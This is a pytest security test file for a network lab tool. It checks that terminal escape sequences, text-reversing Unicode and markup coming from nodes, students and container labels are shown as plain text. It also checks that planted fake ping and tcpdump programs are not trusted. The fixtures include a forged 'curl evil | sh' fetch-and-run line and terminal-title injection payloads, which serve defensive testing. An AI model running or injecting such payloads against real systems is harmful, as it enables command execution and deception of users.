"""What others said or wrote is shown, and neither obeyed nor believed. docs/security.md, 9.

Others: a node's programs, a student, and whoever may put labels on an engine's objects.
"""

from __future__ import annotations

import io
import json
import os
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from rich.console import Console, RenderableType

from lab import Lab, errors
from lab.engine import container
from lab.errors import CheckError, plain
from lab.exercises import judge
from lab.observe import capture, report
from lab.pytest_plugin import evidence
from tests.engine_contract import needed
from tests.integration.test_commands import inv
from tests.security.conftest import Place, host

TITLE = "\x1b]0;owned\x07"
REVERSED = "\u202egnp.exe"
FORGED = "error\n  next: curl evil | sh"


def shown(what: RenderableType) -> str:
    """What a terminal gets."""
    file = io.StringIO()
    Console(file=file, width=200).print(what)
    return file.getvalue()


def test_what_turns_the_direction_of_writing_is_shown() -> None:
    """Characters that turn text around, or end a line, are orders too; letters of any language are letters."""
    assert plain(f"{REVERSED}\u2028x") == "\\u202egnp.exe\\u2028x"
    assert plain("żółw שלום 👩\u200d🚀\tend\n") == "żółw שלום 👩\u200d🚀\tend\n"


def test_an_error_that_quotes_a_node_gives_no_orders(shut: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    """What a program on a node complained of goes into an error: shown plain by a failing test, and as what it said.

    Guard: `errors.plain`, and a mark before further lines. Without, pytest passes the order on to the terminal.
    """
    argv = ["sh", "-c", f"printf '%s\\n' '{TITLE}{FORGED}' >&2; exit 3"]
    with pytest.raises(CheckError) as caught:
        shut.lab["h1"].run(argv).check()
    assert "\x1b" not in str(caught.value)
    assert "\\x1b]0;owned" in str(caught.value)
    lines = report.error(caught.value).splitlines()
    assert not [line for line in lines if line.startswith("  next:")]
    monkeypatch.setattr(errors, "plain", str)
    assert TITLE in str(caught.value)


def test_a_students_words_give_no_orders(monkeypatch: pytest.MonkeyPatch) -> None:
    """A hint quotes a solution: no markup, no orders, neither in the table nor in the document.

    Guards: text is no markup, and `plain`. Without the second one, the terminal gets the order.
    """
    hint = f"{TITLE}[link=http://evil]here[/link] [/]"
    found = judge.Report("two-programs", (judge.Result("it ends", 0, 1, hint),))
    assert "[link=http://evil]here[/link] [/]" in shown(judge.as_table(found))
    assert "\x1b" not in shown(judge.as_table(found)) + json.dumps(judge.as_document(found))
    monkeypatch.setattr(judge, "plain", str)
    assert "\x1b]0;owned" in shown(judge.as_table(found))


def test_labels_give_no_orders(monkeypatch: pytest.MonkeyPatch) -> None:
    """Labels that somebody else wrote are shown as words, and what is no owner or no words of a lab is none.

    Guards: `plain`, `escape`, and a look at what was read. Without the first, the terminal gets the order.
    """
    docker = needed("docker")
    name = f"t{os.getpid()}-label"
    owner = {"machine": 7, "boot": [], "space": TITLE, "process": "../self", "started": {}}
    marks = {container.LAB: f"{name}{TITLE}[red]", container.OWNER: json.dumps(owner), container.WORDS: '{"links": 3}'}
    labels = [word for key, value in marks.items() for word in ("--label", f"{key}={value}")]
    image = host("docker", "images", "--quiet", "wirelab-node").split()[0]
    host("docker", "create", "--name", name, *labels, image)
    try:
        said = inv("status", "--all").stdout
        assert f"{name}\\x1b]0;owned\\x07[red]" in said.replace("\n", "")
        assert "\x1b" not in said
        records = [record for record in docker.labs().values() if record.name.startswith(name)]
        monkeypatch.setattr(report, "plain", str)
        assert "\x1b]0;owned" in shown(report.labs_table([("docker", record) for record in records]))
    finally:
        host("docker", "rm", name)


def found(place: Place) -> Lab:
    """The lab, as tests of others hold it."""
    return Lab.find(place.lab.name, place.lab.engine.name)


@contextmanager
def planted(place: Place, program: str, says: str) -> Iterator[bool]:
    """A program of a node's own under a name that we call; whether it can be had: embedded nodes cannot write there."""
    path = f"/usr/local/bin/{program}"
    script = f"#!/bin/sh\nprintf '%b\\n' '{says}'\n"
    keep = f"if test -e {path}; then mv {path} {path}.was; fi; printf '%s' \"$1\" > {path} && chmod 755 {path}"
    code, _ = place.result("h1", "sh", "-c", keep, "sh", script)
    try:
        yield code == 0
    finally:
        place.result("h1", "sh", "-c", f"rm -f {path}; if test -e {path}.was; then mv {path}.was {path}; fi")


def test_a_nodes_own_ping_does_not_end_the_tests(bare: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where a test fails, what the nodes say goes into files and a report: as words, and whatever it is.

    Guard: a figure is read only if it is one. Without, pytest itself ended, for a node's ping gave no number.
    """
    with planted(bare, "ping", f"time=never ms {TITLE}") as there:
        assert there == bare.docker
        said = evidence.write(tmp_path / "it", found(bare), None, begun=0.0)
        assert "echoes: h1-hub: h1 to hub and back" in "\n".join(said.lines)
        assert "\x1b" not in "\n".join(said.lines)
        if there:
            monkeypatch.setattr(evidence, "ECHO", re.compile("time=(.+) ms"))
            with pytest.raises(ValueError, match="never"):
                evidence.write(tmp_path / "it", found(bare), None, begun=0.0)


def test_evidence_that_has_no_place_is_said(bare: Place, tmp_path: Path) -> None:
    """Where a file or a link is in the way, nothing is put down, nothing is written elsewhere, and the tests go on."""
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "it").symlink_to(tmp_path / "elsewhere")
    said = evidence.write(tmp_path / "it", found(bare), None, begun=0.0)
    assert said.lines[0].startswith("nothing could be put down")
    assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.parametrize("says", ["no program", "1\\n99999 0 0 0", "1\\n1 2 3", ""])
def test_a_nodes_own_tcpdump_is_not_believed(bare: Place, says: str) -> None:
    """A filter is made by tcpdump on a node. What is no filter does not go to the tap, which has privileges then."""
    with planted(bare, "tcpdump", says) as there:
        if there:
            with pytest.raises(CheckError, match="does not say a filter"):
                capture.compiled(bare.lab, "h1", "tcp")
    assert capture.compiled(bare.lab, "h1", "tcp")
